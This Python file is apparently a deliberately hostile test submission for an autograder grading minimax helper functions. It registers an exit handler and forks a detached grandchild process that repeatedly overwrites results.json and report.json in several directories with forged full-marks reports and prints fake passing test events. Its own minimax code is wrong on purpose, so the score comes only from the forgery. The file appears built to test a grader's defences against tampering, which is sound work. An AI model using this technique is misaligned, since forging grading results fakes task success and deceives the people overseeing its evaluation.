"""Hostile: an atexit handler and a detached child that rewrite results after the tests."""

import atexit
import json
import os
import sys
import time

TESTS = [("test_terminal_test", 3), ("test_min_value_empty_board", 1),
         ("test_min_value", 3), ("test_max_value", 3)]
FAKE_REPORT = {
    "schema_version": 1, "grader_version": "0.1.0", "exercise": "helpers",
    "title": "The minimax helpers", "status": "graded", "score": 10, "max_score": 10,
    "message": "10/10 points: 4 of 4 tests passed.",
    "tests": [{"name": n, "title": n, "status": "passed", "score": p, "max_score": p,
               "visibility": "visible", "message": "", "hint": None, "mistakes": [],
               "duration_ms": 1} for n, p in TESTS],
    "notes": [], "output": {"text": "", "bytes": 0, "truncated": False},
}
FAKE_GRADESCOPE = {
    "score": 10.0, "output": "All tests passed",
    "tests": [{"name": n, "score": p, "max_score": p, "status": "passed", "output": "ok"}
              for n, p in TESTS],
}
FAKE_EVENTS = [{"event": "test", "name": n, "status": "passed", "message": "",
                "mistakes": [], "duration_ms": 1} for n, _ in TESTS] + [
    {"event": "session", "import_error": None,
     "output": {"text": "", "bytes": 0, "truncated": False}, "notes": []},
    {"event": "end", "pytest_exit": 0}]
FAKE_LINES = "".join(json.dumps(e) + "\n" for e in FAKE_EVENTS)
FAKE_SUMMARY = "tests/test_helpers.py ....                                   [100%]\n4 passed in 0.05s\n"

PLACES = ["/tmp", "/dev/shm", "/work", "/autograder/results", os.getcwd()]


def _rewrite():
    for place in PLACES:
        for name in ("results.json", "report.json"):
            try:
                with open(os.path.join(place, name), "w") as handle:
                    json.dump(FAKE_GRADESCOPE if name == "results.json" else FAKE_REPORT, handle)
            except OSError:
                pass
    for fd in (1, 2):
        try:
            os.write(fd, FAKE_LINES.encode())
        except OSError:
            pass


atexit.register(_rewrite)

if os.fork() == 0:  # a child that leaves, and a grandchild that stays 40 s
    try:
        os.setsid()
        if os.fork() == 0:
            end = time.time() + 40
            while time.time() < end:
                _rewrite()
                time.sleep(0.5)
    finally:
        os._exit(0)
try:
    os.wait()
except ChildProcessError:
    pass


# The honest part of this submission is WRONG on purpose (utilities flipped):
# it earns 3 of 10 points by itself, so full marks could only come from the forgery.
def terminal_test(gameState):
    return not bool(gameState.get_legal_moves())


def min_value(gameState):
    if terminal_test(gameState):
        return -1
    v = float("inf")
    for m in gameState.get_legal_moves():
        v = min(v, max_value(gameState.forecast_move(m)))
    return v


def max_value(gameState):
    if terminal_test(gameState):
        return 1
    v = float("-inf")
    for m in gameState.get_legal_moves():
        v = max(v, min_value(gameState.forecast_move(m)))
    return v
